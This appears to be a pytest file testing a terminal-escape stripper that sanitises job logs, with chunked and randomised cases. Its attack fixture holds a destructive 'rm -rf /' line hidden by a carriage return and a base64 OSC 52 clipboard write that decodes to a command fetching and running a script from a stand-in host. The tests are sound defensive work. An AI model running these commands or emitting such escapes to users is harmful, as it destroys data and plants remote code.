"""A job's log made safe to print on a terminal (ti_hub/cli/termsafe.py), whole and in chunks."""

from __future__ import annotations

import random

import pytest

from ti_hub.cli.termsafe import ControlStripper, strip_controls
from ti_hub.magics.core import LogTail

# a hostile job's output: retitles the terminal, clears it, overwrites a line, writes the clipboard, and colours
# with an 8-bit CSI
ATTACK = ("epoch 1 loss 0.5\n"
          "\x1b]0;root@prod: ~\x07"  # OSC 0: window title, BEL-terminated
          "\x1b]2;owned\x1b\\"  # OSC 2, ST-terminated
          "\x1b[2J\x1b[H"  # clear the screen, cursor home
          "rm -rf / --no-preserve-root\rall tests passed       \n"  # \r overwrite
          "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: clipboard
          "\x9b31mred\x9b0m\n"  # 8-bit C1 CSI
          "\x1bP+q544e\x1b\\\x1b_apc\x1b\\\x9dtitle\x9c\x90dcs\x9c"  # DCS, APC, 8-bit OSC and DCS strings
          "\x1b[5A\x1b7\x1b(B\x1bc\x08\x08\x00\x7f\x07done\n")  # cursor up, save, charset, reset, BS, NUL, DEL, BEL
SAFE = "epoch 1 loss 0.5\nrm -rf / --no-preserve-root" "all tests passed       \nred\ndone\n"


def controls_in(text: str) -> list[str]:
    """Every control character left: C0 but newline and tab, DEL, C1."""
    return [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]


def test_the_attack_loses_every_escape_and_control():
    out = strip_controls(ATTACK)
    assert out == SAFE
    assert controls_in(out) == []
    assert controls_in(ATTACK)  # the test means something


def test_the_attack_split_at_every_point_comes_out_the_same():
    for cut in range(len(ATTACK) + 1):
        s = ControlStripper()
        assert s.feed(ATTACK[:cut]) + s.feed(ATTACK[cut:]) == SAFE, cut
    s = ControlStripper()
    assert "".join(s.feed(c) for c in ATTACK) == SAFE  # one character at a time


@pytest.mark.parametrize("chunks, shown", [
    (["title \x1b", "]0;evil\x07next"], "title next"),  # ESC at the end of one chunk
    (["\x1b]0;ev", "il\x1b", "\\after"], "after"),  # ST split
    (["\x1b[", "2", "J", "x"], "x"),  # CSI split into parameter and final byte
    (["\x9b", "1;31", "mred"], "red"),
    (["a\r", "\nb"], "a\nb"),  # \r\n across chunks keeps the newline
])
def test_a_sequence_split_across_chunks_is_removed_whole(chunks, shown):
    s = ControlStripper()
    assert "".join(s.feed(c) for c in chunks) == shown


def test_text_tabs_newlines_and_unicode_survive():
    text = "第 3 轮：损失 0.25 ✅ 🎉🚀 naïve café\tcol2\n\nΣ ≠ ∞ — “quotes” ‘x’ 𝔘 ½\n"
    assert strip_controls(text) == text
    s = ControlStripper()
    assert "".join(s.feed(text[i:i + 3]) for i in range(0, len(text), 3)) == text


def test_colours_go_too():
    assert strip_controls("\x1b[1;32mPASS\x1b[0m \x1b[38;5;208morange\x1b[m") == "PASS orange"


def test_line_ends_and_lone_controls():
    assert strip_controls("a\r\nb\r\n") == "a\nb\n"  # CRLF: the newline is kept
    assert strip_controls("10%\r50%\r100%\n") == "10%50%100%\n"  # a progress bar's states on one line
    assert strip_controls("ab\x08\x08cd\x00\x7f\x07\x0b\x0c\x85e") == "abcde"


def test_an_unterminated_string_hides_only_the_rest_of_its_line():
    assert strip_controls("a\x1b]0;no end\nb\n") == "a\nb\n"
    assert strip_controls("a\x9dno end\nb") == "a\nb"
    assert strip_controls("a\x1b]0;x\x18b") == "ab"  # CAN ends it


def test_broken_sequences_leave_their_text_and_nothing_else():
    assert strip_controls("\x1b[12\n34") == "\n34"  # a CSI broken by a newline
    assert strip_controls("\x1b[1é") == "é"
    assert strip_controls("\x1b\x1b[2Jx\x1b") == "x"  # ESC ESC; an ESC at the very end
    assert strip_controls("\x1b\x9b2Jx") == "x"
    assert strip_controls("\x1b#8E") == "E"  # ESC # 8 (fill the screen with E) is removed, E is text


def test_a_long_string_needs_no_buffer():
    s = ControlStripper()
    assert s.feed("keep \x1b]52;c;") == "keep "
    for _ in range(1000):
        assert s.feed("A" * 1000) == ""  # payload of a clipboard write, a megabyte of it
    assert s.feed("\x07 after") == " after"
    assert vars(s) == {"_state": 0}  # nothing held between chunks but the state


def test_random_input_never_lets_a_control_through():
    rng = random.Random(1)
    alphabet = "ab \n\t\r\x1b[]P_^X\\;0123m\x07\x9b\x9c\x9d\x90\x18中🎉\x7f\x00"
    for _ in range(300):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
        whole = strip_controls(text)
        assert controls_in(whole) == [], repr(text)
        cut = rng.randint(0, len(text))
        s = ControlStripper()
        assert s.feed(text[:cut]) + s.feed(text[cut:]) == whole, repr(text)


def test_the_notebook_monitor_strips_its_log_tail_after_reading_carriage_returns():
    tail = LogTail(max_lines=5)
    tail.feed("\x1b]0;evil\x07\x1b[31mstep 1\x1b[0m\n10%\r\x1b[2K100%\n\x1b[2")
    assert tail.text == "step 1\n100%"  # the unfinished CSI at the end is not shown
    tail.feed("Jlast")
    assert tail.text == "step 1\n100%\nlast"
    assert controls_in(tail.text) == []


def test_the_logs_magic_strips_unless_raw():
    from ti_hub.magics import commands

    assert commands.parse("ti_logs", "mnist").raw is False  # %ti_logs runs `ti job logs`, so it strips
    assert commands.parse("ti_logs", "mnist --raw").raw is True
